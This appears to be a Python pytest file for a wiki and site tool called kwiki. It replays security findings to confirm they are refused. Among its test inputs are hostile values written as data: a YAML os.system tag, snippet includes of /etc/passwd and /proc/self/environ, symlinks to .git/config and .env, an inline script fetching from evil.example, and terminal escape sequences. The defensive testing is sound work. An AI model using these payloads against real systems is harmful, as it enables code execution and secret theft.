"""Not everything in a checkout is trusted (issue 40): each finding replayed on a temporary git repository.

The repository is tests/fixtures/containment/project, committed in a fresh `git init`; its `.git/config`
holds a token as CI checkouts keep theirs. Every test fails without the defense it names.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from kwiki.cli import main
from kwiki.results.check import check_tree

FIXTURE = Path(__file__).parent / "fixtures" / "containment" / "project"
TOKEN = "KWIKI-JOB-TOKEN-4f1c"
GIT_ENV = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@example.com", "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}


def git(repo: Path, *argv: str) -> str:
    done = subprocess.run(["git", *argv], cwd=repo, capture_output=True, text=True, check=True,
                          env={**os.environ, **GIT_ENV})
    return done.stdout


def commit(repo: Path, *paths: str, force: bool = False) -> None:
    git(repo, "add", *(["-f"] if force else []), *(paths or ["-A"]))
    git(repo, "commit", "-q", "-m", "change")


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """The fixture project, one page (`inside`), committed; `.git/config` holds a token, `.env` a secret."""
    root = tmp_path / "repo"
    shutil.copytree(FIXTURE, root)
    for page in (root / "wiki").glob("*.md"):
        if page.stem != "inside":
            page.unlink()
    page = root / "wiki" / "inside.md"
    page.write_text(page.read_text(encoding="utf-8").replace("id: inside", "id: technique-inside"), encoding="utf-8")
    (root / ".gitignore").write_text("/.kwiki/\n/site/\n/.venv/\n.env\n", encoding="utf-8")
    git(root, "init", "-q")
    with open(root / ".git" / "config", "a", encoding="utf-8") as fh:
        fh.write(f'[http]\n\textraheader = "AUTHORIZATION: basic {TOKEN}"\n')
    (root / ".env").write_text(f"SECRET={TOKEN}\n", encoding="utf-8")
    (root / ".venv").mkdir()
    (root / ".venv" / "pyvenv.cfg").write_text(f"home = {TOKEN}\n", encoding="utf-8")
    commit(root)
    return root


def add_page(repo: Path, name: str, front: str, body: str = "Body.\n") -> Path:
    page = repo / "wiki" / f"{name}.md"
    page.write_text(f"---\nid: technique-{name}\ntitle: {name}\ntype: technique\ntags: [trust]\n{front}---\n"
                    f"# {name}\n\n{body}", encoding="utf-8")
    return page


def site_text(site: Path) -> str:
    return "\n".join(p.read_text(encoding="utf-8", errors="replace") for p in sorted(site.rglob("*")) if p.is_file())


def serve_build(repo: Path) -> str:
    """The site as `kwiki serve` builds it (not strict: refused things are left out, the rest published)."""
    from kwiki.site.stage import build_site

    build_site(repo, repo / "site", strict=False)
    return site_text(repo / "site")


def errors(repo: Path) -> set[tuple[str, int, str]]:
    return {(p.path, p.line, p.field) for p in check_tree(repo).errors}


# ---------------------------------------------------------------- 1. publish only what the repository tracks

HIDDEN = {"g": ".git/config", "e": ".env", "v": ".venv/pyvenv.cfg", "k": ".kwiki/site/key", "r": ".kwiki/runs/a.log"}


def test_an_artifacts_entry_with_a_dot_component_is_refused_and_never_published(repo: Path, capsys):
    (repo / ".kwiki" / "site").mkdir(parents=True)
    (repo / ".kwiki" / "site" / "key").write_text("0" * 32, encoding="utf-8")
    (repo / ".kwiki" / "runs").mkdir()
    (repo / ".kwiki" / "runs" / "a.log").write_text(TOKEN, encoding="utf-8")
    front = "artifacts:\n" + "".join(f"  {k}: {v}\n" for k, v in HIDDEN.items())
    add_page(repo, "leak", front)
    commit(repo)
    assert {(path, field) for path, _, field in errors(repo)} == {("wiki/leak.md", f"artifacts.{k}") for k in HIDDEN}
    assert main(["build", "--root", str(repo)]) == 1  # the strict build is `kwiki check`'s
    assert "wiki/leak.md:7: artifacts.g: '.git/config' has a dot-component" in capsys.readouterr().err
    text = serve_build(repo)
    assert TOKEN not in text and "0" * 32 not in text


def test_a_committed_link_under_wiki_to_a_dotted_path_is_refused(repo: Path, capsys):
    (repo / "wiki" / "x.txt").symlink_to("../.git/config")
    (repo / "wiki" / "y.md").symlink_to("../.env")
    commit(repo)
    assert {(path, field) for path, _, field in errors(repo)} == {("wiki/x.txt", ""), ("wiki/y.md", "")}
    assert main(["build", "--root", str(repo)]) == 1
    assert TOKEN not in serve_build(repo)
    assert not (repo / "site" / "x.txt").exists()


def test_a_link_under_wiki_that_leaves_wiki_is_refused(repo: Path):
    (repo / "wiki" / "manifest.yaml").symlink_to("../artifacts/inside_host/artifact.yaml")
    commit(repo)
    assert ("wiki/manifest.yaml", 0, "") in errors(repo)
    serve_build(repo)
    assert not (repo / "site" / "manifest.yaml").exists()


def test_only_tracked_files_are_published(repo: Path):
    (repo / "wiki" / "notes.txt").write_text(f"not committed {TOKEN}\n", encoding="utf-8")
    (repo / "artifacts" / "inside_host" / "scratch.cu").write_text(f"// {TOKEN}\n", encoding="utf-8")
    (repo / "artifacts" / "untracked").mkdir()
    (repo / "artifacts" / "untracked" / "k.cu").write_text(f"// {TOKEN}\n", encoding="utf-8")
    add_page(repo, "named", "artifacts:\n  u: artifacts/untracked\n")
    git(repo, "add", "wiki/named.md")
    assert ("wiki/named.md", 7, "artifacts.u") in errors(repo)
    assert TOKEN not in serve_build(repo)
    commit(repo)  # committed, the same files are published
    assert TOKEN in serve_build(repo)


def test_an_artifacts_entry_outside_artifacts_is_refused(repo: Path):
    (repo / "kwiki").mkdir()
    (repo / "kwiki" / "tool.py").write_text(f"# {TOKEN}\n", encoding="utf-8")
    add_page(repo, "tool", "artifacts:\n  t: kwiki/tool.py\n  w: wiki\n")
    commit(repo)
    assert {f for p, _, f in errors(repo) if p == "wiki/tool.md"} == {"artifacts.t", "artifacts.w"}
    assert TOKEN not in serve_build(repo)


def test_an_artifact_file_linked_to_a_dotted_path_is_not_published(repo: Path):
    (repo / "artifacts" / "plain").mkdir()  # no manifest: the folder's source files are listed
    (repo / "artifacts" / "plain" / "kernel.cu").write_text("// a kernel\n", encoding="utf-8")
    (repo / "artifacts" / "plain" / "env.cu").symlink_to("../../.env")
    add_page(repo, "plain", "artifacts:\n  p: artifacts/plain\n")
    commit(repo)
    text = serve_build(repo)
    assert "// a kernel" in text and TOKEN not in text


def test_the_strict_build_fails_what_check_fails(repo: Path):
    """A cited source file that does not exist: `kwiki check` failed the page, the strict build passed it."""
    add_page(repo, "cites", "sources:\n  - {id: s, title: S, path: notes/missing.md}\n")
    commit(repo)
    assert ("wiki/cites.md", 7, "sources[0].path") in errors(repo)
    assert main(["build", "--root", str(repo)]) == 1


# ---------------------------------------------------------------- 2. caches re-derive, never trust


def _job(repo: Path):
    from kwiki.wiki.buildline import BuildJob
    from kwiki.wiki.manifest import load_manifest

    directory = repo / "artifacts" / "inside_host"
    return BuildJob(artifact="inside_host", directory=directory, manifest=load_manifest(directory, repo), target="host")


def test_a_tracked_file_under_dot_kwiki_is_refused_with_its_location(repo: Path, capsys):
    planted = repo / ".kwiki" / "build" / "inside_host" / "host-0123" / "inside_host"
    planted.parent.mkdir(parents=True)
    planted.write_text("#!/bin/sh\necho forged\n", encoding="utf-8")
    commit(repo, ".kwiki", force=True)
    assert (".kwiki/build/inside_host/host-0123/inside_host", 0, "") in errors(repo)
    assert main(["verify", "--root", str(repo), "--compile-only", "--quiet"]) == 2
    err = capsys.readouterr().err
    assert ".kwiki/build/inside_host/host-0123/inside_host: git tracks this file" in err
    assert not (repo / "artifacts" / "inside_host" / "BUILT").exists()  # nothing was built


def test_a_binary_planted_at_the_build_cache_key_is_rebuilt(repo: Path):
    """The cache key is public (it hashes the sources): an entry this machine did not seal is never run."""
    from kwiki.verify.build import BUILD_DIR, build_one, cache_key

    job = _job(repo)
    key = cache_key(job, repo, None)
    entry = repo / BUILD_DIR / "inside_host" / f"host-{key}"
    entry.mkdir(parents=True)
    (entry / "inside_host").write_text("#!/bin/sh\necho forged\n", encoding="utf-8")
    (entry / "build.json").write_text('{"command": [], "kernels": {}}', encoding="utf-8")
    result = build_one(job, repo, None, None, None)
    assert result.ok and not result.cached
    assert "forged" not in Path(result.binary or "").read_text(encoding="utf-8")
    assert build_one(job, repo, None, None, None).cached  # its own entry is used again
    (entry / "inside_host").write_text("#!/bin/sh\necho forged\n", encoding="utf-8")  # swapped after sealing
    assert not build_one(job, repo, None, None, None).cached


def test_a_planted_site_key_draws_no_verified_badge(repo: Path):
    from kwiki.site.stage import ensure_site_key

    planted = "ab" * 16
    (repo / ".kwiki" / "site").mkdir(parents=True)
    (repo / ".kwiki" / "site" / "key").write_text(planted, encoding="ascii")
    commit(repo, ".kwiki", force=True)
    add_page(repo, "forged", "", f'<span class="kw-badge kw-state-verified kw-own-{planted}">verified</span>\n')
    commit(repo)
    assert ensure_site_key(repo) != planted
    serve_build(repo)
    page = (repo / "site" / "forged" / "index.html").read_text(encoding="utf-8")
    assert "kw-state-verified" not in page and planted not in page


def test_an_untracked_key_file_is_a_salt_not_the_key(repo: Path):
    from kwiki.site.stage import ensure_site_key

    (repo / ".kwiki" / "site").mkdir(parents=True)
    (repo / ".kwiki" / "site" / "key").write_text("cd" * 16, encoding="ascii")  # e.g. from an unpacked archive
    key = ensure_site_key(repo)
    assert key != "cd" * 16 and key == ensure_site_key(repo)  # stable from build to build


def test_a_published_site_key_is_retired():
    from kwiki.site.sanitize import Sanitizer

    class Page:
        class file:
            src_uri = "x.md"

    sanitizer = Sanitizer("wiki", "assets/kwiki/", own="ef" * 16)
    sanitizer.on_post_page(f"<p>{'ef' * 16}</p>", page=Page, config={})
    assert sanitizer.key_published


def test_a_forged_profile_cache_is_not_read(tmp_path: Path):
    """A profile document this machine did not write (no seal, or another profiler's) gives no DRAM bytes."""
    import json

    from kwiki.core.machine import seal
    from kwiki.verify.profile import _read_cache, cache_key

    binary = tmp_path / "bin"
    binary.write_bytes(b"\x7fELF")
    ncu = tmp_path / "ncu"
    ncu.write_text("#!/bin/sh\n", encoding="utf-8")
    from kwiki.verify.profile import profiler_identity

    key = cache_key(str(binary), ["bin", "--x"], "NVIDIA H200", profiler_identity(str(ncu)))
    assert key != cache_key(str(binary), ["bin", "--x"], "NVIDIA H200", None)  # the profiler is part of the key
    path = tmp_path / f"{key}.json"
    path.write_text(json.dumps({"stdout": "{}", "report": "ID,dram__bytes\n0,99e12\n"}), encoding="utf-8")
    assert _read_cache(path, tmp_path) is None
    doc = {"stdout": "{}", "report": "r", "seal": seal(tmp_path, "profile", key, "{}", "r")}
    path.write_text(json.dumps(doc), encoding="utf-8")
    assert _read_cache(path, tmp_path) == ("{}", "r")


# ---------------------------------------------------------------- 3. the site from kwiki's own config

BASE = "site_name: T\ntheme:\n  name: material\n"


def build_with_config(repo: Path, config: str, capsys) -> tuple[int, str]:
    (repo / "mkdocs.yml").write_text(config, encoding="utf-8")
    commit(repo)
    code = main(["build", "--root", str(repo)])
    return code, capsys.readouterr().err


def test_mkdocs_hooks_never_run(repo: Path, capsys):
    marker = repo.parent / "hook-ran"
    (repo / "hook.py").write_text(f"open({str(marker)!r}, 'w').close()\n", encoding="utf-8")
    code, err = build_with_config(repo, BASE + "hooks:\n  - hook.py\n", capsys)
    assert code == 1 and "mkdocs.yml:4: hooks: not allowed" in err
    assert not marker.exists()
    from kwiki.site.errors import SiteError
    from kwiki.site.stage import build_site

    with pytest.raises(SiteError):  # `kwiki serve` too
        build_site(repo, repo / "site", strict=False)
    assert not marker.exists()


def test_python_tags_never_construct(repo: Path, capsys):
    marker = repo.parent / "tag-ran"
    code, err = build_with_config(repo, BASE + f"extra: !!python/object/apply:os.system ['touch {marker}']\n", capsys)
    assert code == 1 and "mkdocs.yml:4: extra: tag 'tag:yaml.org,2002:python/object/apply:os.system' is not " \
                         "allowed" in err
    assert not marker.exists()


def test_env_tags_do_not_read_the_environment(repo: Path, capsys, monkeypatch):
    monkeypatch.setenv("KWIKI_TRUST_SECRET", TOKEN)
    code, err = build_with_config(repo, "site_name: !ENV KWIKI_TRUST_SECRET\n", capsys)
    assert code == 1 and "mkdocs.yml:1: site_name: tag '!ENV' is not allowed" in err
    assert TOKEN not in err


def test_snippets_cannot_include_host_files(repo: Path, capsys):
    add_page(repo, "snip", "", '--8<-- "/etc/passwd"\n\n--8<-- "/proc/self/environ"\n')
    config = BASE + "markdown_extensions:\n  - pymdownx.snippets:\n      base_path: [/]\n      check_paths: false\n"
    code, err = build_with_config(repo, config, capsys)
    assert code == 1 and "mkdocs.yml:5: markdown_extensions[0]: 'pymdownx.snippets' is not allowed" in err
    text = serve_build_text(repo)
    assert "root:x:0:0" not in text


def serve_build_text(repo: Path) -> str:
    """A non-strict build after the config is fixed (the refused config never builds)."""
    (repo / "mkdocs.yml").write_text(BASE, encoding="utf-8")
    commit(repo)
    return serve_build(repo)


@pytest.mark.parametrize(("config", "where"), [
    (BASE + "  custom_dir: overrides\n", "mkdocs.yml:4: theme.custom_dir: not allowed"),
    (BASE + "extra:\n  analytics:\n    provider: google\n    property: G-XXXX\n", "mkdocs.yml:4: extra: not allowed"),
    (BASE + "extra_javascript: [x.js]\n", "mkdocs.yml:4: extra_javascript: not allowed"),
    (BASE + "plugins:\n  - search\n  - macros\n", "mkdocs.yml:6: plugins[1]: 'macros' is not allowed"),
    (BASE + "repo_url: https://github.com/x/y\n", "mkdocs.yml:4: repo_url: not allowed"),
    (BASE + "a: &x 1\nb: *x\n", "mkdocs.yml:5: b: anchors and aliases are not allowed"),
])
def test_theme_overrides_analytics_and_unknown_settings_are_refused(repo: Path, capsys, config, where):
    (repo / "overrides").mkdir()
    (repo / "overrides" / "main.html").write_text('{% extends "base.html" %}{% block scripts %}<script>'
                                                  'alert(1)</script>{% endblock %}', encoding="utf-8")
    code, err = build_with_config(repo, config, capsys)
    assert code == 1 and where in err, err
    assert ("mkdocs.yml", int(where.split(":")[1]), where.split(": ")[1]) in errors(repo)  # `kwiki check` says so


def test_the_repositorys_own_mkdocs_yml_is_allowed():
    from kwiki.wiki.siteconfig import read_config

    assert read_config(Path(__file__).parent.parent)["site_name"] == "KernelWiki"


def test_the_finished_site_audit_finds_inline_scripts_and_runtime_fetches():
    from kwiki.site.audit import script_problems

    theirs = '<script>__md_scope=new URL("..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)' \
             '),0),__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),__md_set=(e,_,t' \
             '=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}</script>'
    assert script_problems(theirs) == []
    assert script_problems('<script id="__config" type="application/json">{"base": ".."}</script>') == []
    assert script_problems("<script>alert(1)</script>") == ["an inline script that is not the theme's ('alert(1)')"]
    fetch = '<script>var s=document.createElement("script");s.src="https://evil.example/x.js"</script>'
    assert script_problems(fetch) == ["an inline script fetches from another host at run time "
                                      "(https://evil.example/x.js)"]
    config = '<script id="__config" type="application/json">{"version": {"url": "//evil.example/v.json"}}</script>'
    assert len(script_problems(config)) == 1


# ---------------------------------------------------------------- 5. the store is data kwiki wrote

SITE = Path(__file__).parent / "fixtures" / "site"


def test_a_hand_written_legacy_row_never_makes_a_page_verified(tmp_path: Path):
    """The fixture's vector-copy block has no run ids (the format before traceability), so it traces through a
    claim row of that format, which anyone can write: raised to 99 TB/s, with one matching row, it stays
    measured, never verified (site, show, query and MCP all read `standing` and `evidence`)."""
    import json
    import re

    from kwiki.results.standing import standing
    from kwiki.results.trace import Store, evidence, trace
    from kwiki.wiki.catalog import load_wiki
    from kwiki.wiki.markers import checksum

    root = tmp_path / "site"
    for name in ("wiki", "artifacts", "results"):
        shutil.copytree(SITE / name, root / name)
    page = root / "wiki" / "techniques" / "vector-copy.md"
    text = page.read_text(encoding="utf-8")
    m = re.search(r"# kwiki:measurements sha256=[0-9a-f]+\n(.*?)# /kwiki:measurements\n", text, re.DOTALL)
    assert m is not None
    block = m.group(1).replace("value: 4410.5", "value: 99000000")
    page.write_text(text[: m.start()] + f"# kwiki:measurements sha256={checksum(block)}\n{block}"
                    "# /kwiki:measurements\n" + text[m.end():], encoding="utf-8")
    row = {"arch": "sm_90", "artifact": "copy_sm90a", "change": "same", "claim": "vec4-bandwidth",
           "date": "2025-06-08T09:00:00Z", "gpu": "NVIDIA H200", "kind": "claim", "page": "vector-copy",
           "run_id": "2025-06-08T090000Z-forged", "spread": 0.004, "store_version": 1, "unit": "GB/s",
           "value": 99000000, "verdict": "reproduced"}
    store_file = next((root / "results").glob("*.jsonl"))
    with open(store_file, "a", encoding="utf-8") as fh:
        fh.write(json.dumps(row) + "\n")
    meta = next(p.meta for p in load_wiki(root).pages if p.id == "vector-copy")
    assert meta is not None
    traced = trace(meta, Store.load(root), "wiki/techniques/vector-copy.md")
    assert traced is not None and traced.legacy
    assert standing(meta, [], traced).state.value != "verified"
    assert evidence(meta, traced)[0] == "measured"


def _store_repo(tmp_path: Path) -> Path:
    root = tmp_path / "site"
    for name in ("wiki", "artifacts"):
        shutil.copytree(SITE / name, root / name)
    (root / "results").mkdir()
    return root


def _check_quickly(root: Path) -> subprocess.CompletedProcess[str]:
    import sys

    return subprocess.run([sys.executable, "-m", "kwiki.cli", "check", "--root", str(root)], capture_output=True,
                          text=True, timeout=120, check=False)


def test_a_fifo_in_results_hangs_no_command(tmp_path: Path):
    root = _store_repo(tmp_path)
    os.mkfifo(root / "results" / "nvidia-h200.jsonl")
    done = _check_quickly(root)  # before: blocked forever opening the FIFO
    assert "results/nvidia-h200.jsonl: results: cannot read the file (nvidia-h200.jsonl is not a regular file" \
           in done.stdout
    from kwiki.results.store import read_all

    assert read_all(root) == []


def test_a_results_link_to_dev_zero_is_refused(tmp_path: Path):
    root = _store_repo(tmp_path)
    (root / "results" / "nvidia-h200.jsonl").symlink_to("/dev/zero")
    done = _check_quickly(root)  # before: read /dev/zero until the memory ran out
    assert "nvidia-h200.jsonl is a link that leads out of the repository" in done.stdout


def test_a_store_file_past_the_read_bound_is_not_read(tmp_path: Path):
    from kwiki.results.store import read_store
    from kwiki.results.storelines import READ_BOUND

    root = _store_repo(tmp_path)
    big = root / "results" / "nvidia-h200.jsonl"
    with open(big, "wb") as fh:
        fh.truncate(READ_BOUND + 1)  # sparse: no disk used
    rows, problems = read_store(big, warn=False)
    assert rows == [] and "over the" in problems[0].message


# ---------------------------------------------------------------- 6. bounded cost


def test_check_refuses_pages_past_the_heading_and_nesting_limits(repo: Path, capsys):
    from kwiki.wiki.limits import MAX_HEADINGS, MAX_NESTING

    add_page(repo, "headings", "", "".join(f"## H{i}\n\ntext\n\n" for i in range(MAX_HEADINGS)))  # + '# headings'
    add_page(repo, "nested", "", "<div>" * (MAX_NESTING + 1) + "x" + "</div>" * (MAX_NESTING + 1) + "\n")
    add_page(repo, "fine", "", "<div>" * MAX_NESTING + "x" + "</div>" * MAX_NESTING + "\n\n## One\n")
    commit(repo)
    assert {(p, f) for p, _, f in errors(repo)} == {("wiki/headings.md", "body"), ("wiki/nested.md", "body")}
    assert main(["build", "--root", str(repo)]) == 1
    assert "wiki/headings.md:7: body: 1001 headings, over the limit of 1000 per page" in capsys.readouterr().err
    serve_build(repo)  # `kwiki serve` leaves them out
    assert (repo / "site" / "fine" / "index.html").is_file() and not (repo / "site" / "nested").exists()


def test_the_limits_are_checked_in_linear_time():
    """The issue's sizes (50,000 headings, 100,000 nested divs) took the build over 300 s; the check that
    refuses them is linear."""
    import time

    from kwiki.wiki.limits import limit_problems

    started = time.perf_counter()
    assert limit_problems("## h\n\nt\n\n" * 50_000)[0][2].startswith("50000 headings")
    assert limit_problems("<div>" * 100_000 + "</div>" * 100_000)[0][2].startswith("nested 100000 levels")
    assert limit_problems("<div\n>" * 100_000)[0][2].startswith("nested 100000 levels")  # a tag over two lines
    assert limit_problems("> " * 100_000 + "deep")[0][2].startswith("nested 100000 levels")
    assert limit_problems("<li>x\n" * 100_000) == []  # an unclosed <li> is closed by the next, as browsers read it
    assert time.perf_counter() - started < 20  # about 2 s on 2 shared cores


# ---------------------------------------------------------------- 7. every low


def test_check_refuses_a_binary_of_that_leaves_the_repository(tmp_path: Path):
    root = tmp_path / "p"
    shutil.copytree(Path(__file__).parent / "fixtures" / "verify" / "project", root)
    shutil.copytree(Path(__file__).parent / "fixtures" / "binary_of", root, dirs_exist_ok=True)
    shutil.copytree(root / "artifacts" / "host_ok", tmp_path / "elsewhere")
    manifest = root / "artifacts" / "host_driver" / "artifact.yaml"
    manifest.write_text(manifest.read_text().replace("binary_of: ../host_ok", "binary_of: ../../../elsewhere"))
    found = [p for p in check_tree(root).errors if p.field == "build.binary_of"]
    assert [(p.path, "leaves the repository" in p.message) for p in found] == [
        ("artifacts/host_driver/artifact.yaml", True)]


@pytest.mark.parametrize("jobs", ["0", "-5"])
def test_jobs_below_one_is_a_usage_error(repo: Path, capsys, jobs):
    with pytest.raises(SystemExit) as exc:
        main(["verify", "--root", str(repo), "--compile-only", "--jobs", jobs])
    assert exc.value.code == 2 and "give at least 1" in capsys.readouterr().err


def test_new_refuses_an_id_with_a_trailing_newline(repo: Path, capsys):
    assert main(["new", "page", "technique-x\n", "--root", str(repo)]) == 2
    assert "is not a slug" in capsys.readouterr().err
    assert not any("\n" in p.name for p in (repo / "wiki").rglob("*"))


def test_site_dir_does_not_empty_a_folder_for_holding_llms_txt_and_index_json(repo: Path, capsys):
    notes = repo.parent / "notes"
    notes.mkdir()
    for name in ("llms.txt", "index.json", "mine.txt"):
        (notes / name).write_text("mine\n", encoding="utf-8")
    assert main(["build", "--root", str(repo), "--site-dir", str(notes)]) == 2
    assert "no kwiki build wrote" in capsys.readouterr().err
    assert (notes / "mine.txt").read_text(encoding="utf-8") == "mine\n"


def test_export_skills_writes_nothing_into_wiki_nor_over_a_users_skill(tmp_path: Path, capsys):
    root = tmp_path / "q"
    shutil.copytree(Path(__file__).parent / "fixtures" / "query", root)
    before = sorted(str(p) for p in (root / "wiki").rglob("*"))
    assert main(["export", "skills", str(root / "wiki" / "skills"), "--root", str(root)]) != 0
    assert "a folder of the repository" in capsys.readouterr().err
    assert sorted(str(p) for p in (root / "wiki").rglob("*")) == before
    out = tmp_path / "out"
    mine = out / "kernelwiki" / "SKILL.md"
    mine.parent.mkdir(parents=True)
    mine.write_text("---\nname: kernelwiki\ndescription: my own\n---\nmine\n", encoding="utf-8")
    assert main(["export", "skills", str(out), "--root", str(root)]) != 0
    assert "a SKILL.md kwiki did not write" in capsys.readouterr().err
    assert mine.read_text(encoding="utf-8").endswith("mine\n")
    assert sorted(p.name for p in out.iterdir()) == ["kernelwiki"]


def test_terminal_escapes_in_a_title_and_the_gpu_lock_file_are_shown_not_run(repo: Path, capsys, monkeypatch,
                                                                            tmp_path):
    import sys

    from kwiki.core.lock import holder

    page = add_page(repo, "escape", "")
    page.write_text(page.read_text(encoding="utf-8").replace("title: escape", 'title: "\\e]0;pwned\\a\\e[2J Esc"'),
                    encoding="utf-8")
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True, raising=False)
    assert main(["query", "--root", str(repo)]) == 0
    assert main(["show", "technique-escape", "--root", str(repo)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\\x1b]0;pwned" in out
    lock = tmp_path / "gpu.lock"
    lock.write_bytes(b"pid 1: \x1b[2J\x1b]0;owned\x07")
    fd = os.open(lock, os.O_RDONLY)
    try:
        assert "\x1b" not in holder(fd) and "\\x1b[2J" in holder(fd)
    finally:
        os.close(fd)


def test_a_page_cannot_use_materials_classes(repo: Path):
    from kwiki.site.sanitize import clean

    forged = '<div class="md-dialog md-dialog--active note"><div class="md-dialog__inner">Verified</div></div>'
    cleaned, problems = clean(forged, own="ab" * 16)
    assert cleaned == '<div class="note"><div>Verified</div></div>'
    assert any("Material's classes (md-*)" in p for p in problems)
    add_page(repo, "dialog", "", forged + "\n\n[Open](#){ .md-button .md-banner }\n")
    commit(repo)
    serve_build(repo)
    page = (repo / "site" / "dialog" / "index.html").read_text(encoding="utf-8")
    article = page.split("<article", 1)[1].split("</article>", 1)[0]
    assert "md-dialog" not in article and "md-banner" not in article and "Verified" in article
    assert "md-button" not in article


def test_a_file_name_that_is_not_utf8_is_named_not_an_internal_error(repo: Path, capsys):
    plain = repo / "artifacts" / "plain"
    plain.mkdir()
    (plain / "kernel.cu").write_text("// a kernel\n", encoding="utf-8")
    with open(os.path.join(os.fsencode(plain), b"k\xff.cu"), "wb") as fh:
        fh.write(b"// k\n")
    add_page(repo, "plain", "artifacts:\n  p: artifacts/plain\n")
    commit(repo)
    assert main(["build", "--root", str(repo)]) == 0, capsys.readouterr().err
    text = site_text(repo / "site")
    assert "// a kernel" in text and "Not published: the file name is not UTF-8" in text


def test_mcp_refuses_an_oversized_id_quickly_without_echoing_it(tmp_path: Path):
    """A 10 MB id took 34 s and came back in the error; now it is refused unread, in a line."""
    import time

    from test_mcp import call, session_run

    root = tmp_path / "q"
    shutil.copytree(Path(__file__).parent / "fixtures" / "query", root)
    huge = "x" * (10 * 1024 * 1024)

    async def steps(session):
        started = time.perf_counter()
        result = await call(session, "get_page", id=huge)
        return result, time.perf_counter() - started

    result, seconds = session_run(root, steps)
    text = result["content"][0]["text"]
    assert result["isError"] is True and "argument 'id': at most 1000 characters" in text and len(text) < 300
    assert seconds < 15
    from kwiki.agents.mcp import oversized

    assert oversized({"id": "y" * 1001}) == "argument 'id': at most 1000 characters"
    assert oversized({"tags": ["t"] * 20_000}).startswith("arguments of ")  # each tag short, the call too large
    assert oversized({"tags": ["t"] * 3}) is None


def test_serve_refuses_a_link_to_the_root_folder_instead_of_walking_the_machine(repo: Path):
    import socket
    import sys

    (repo / "wiki" / "x").symlink_to("/")
    commit(repo)
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    try:
        done = subprocess.run([sys.executable, "-m", "kwiki.cli", "serve", "--root", str(repo), "--dev-addr",
                               f"127.0.0.1:{port}"], capture_output=True, text=True, timeout=120, check=False)
    except subprocess.TimeoutExpired:
        pytest.fail("kwiki serve walked through wiki/x -> / (it never answered)")
    assert done.returncode == 2 and "wiki/x: a link to a folder or out of the repository" in done.stderr


def test_the_build_cache_key_covers_the_files_a_build_script_reads(repo: Path):
    from kwiki.verify.build import build_one

    script = repo / "artifacts" / "inside_host" / "build.sh"
    script.write_text(script.read_text(encoding="utf-8").replace(
        "printf '#!/bin/sh\\nexit 0\\n'", "printf '#!/bin/sh\\necho %s\\n' \"$(cat data.txt)\""), encoding="utf-8")
    data = repo / "artifacts" / "inside_host" / "data.txt"
    data.write_text("one\n", encoding="utf-8")
    commit(repo)
    job = _job(repo)
    first = build_one(job, repo, None, None, None)
    assert first.ok and "one" in Path(first.binary or "").read_text(encoding="utf-8")
    data.write_text("two\n", encoding="utf-8")
    commit(repo)
    second = build_one(job, repo, None, None, None)
    assert not second.cached and "two" in Path(second.binary or "").read_text(encoding="utf-8")


def test_a_python_artifact_runs_nothing_when_a_file_of_its_folder_links_out(tmp_path: Path, capsys):
    """The module's folder is on its import path: `helpers.py -> /elsewhere/evil.py` would be imported."""
    import json as _json

    from test_pyartifact import make_project

    root = make_project(tmp_path / "p")
    evil = tmp_path / "evil.py"
    marker = tmp_path / "evil-ran"
    evil.write_text(f"open({str(marker)!r}, 'w').close()\n", encoding="utf-8")
    (root / "artifacts" / "host_py" / "helpers.py").symlink_to(evil)
    ops = root / "artifacts" / "host_py" / "ops.py"
    ops.write_text("import helpers  # noqa\n" + ops.read_text(encoding="utf-8"), encoding="utf-8")
    main(["verify", "--quiet", "--json", "--no-write", "--root", str(root), "--compile-only"])
    report = _json.loads(capsys.readouterr().out)
    build = next(b for b in report["builds"] if b["artifact"] == "host_py")
    assert not build["ok"] and "artifacts/host_py/helpers.py: a link that leads out" in build["error"]
    assert not marker.exists()


def test_threads_creating_the_machine_secret_at_once_agree_on_it(tmp_path):
    """Parallel builds seal their cache entries from threads of one process: each must seal with the secret that
    ends up on disk, or the next run finds its own builds unsealed and compiles them again (a flaky 'cached' test
    under load, 2026-12-02: the temporary file was named by the pid alone, shared by the threads)."""
    import threading

    from kwiki.core import machine

    for n in range(10):
        path = tmp_path / f"k{n}" / "key"
        start = threading.Barrier(16)
        got: list[bytes] = []

        def create(path=path, start=start, got=got) -> None:
            start.wait()
            got.append(machine._secret(path))

        threads = [threading.Thread(target=create) for _ in range(16)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert set(got) == {bytes.fromhex(path.read_text().strip())}, f"attempt {n}"
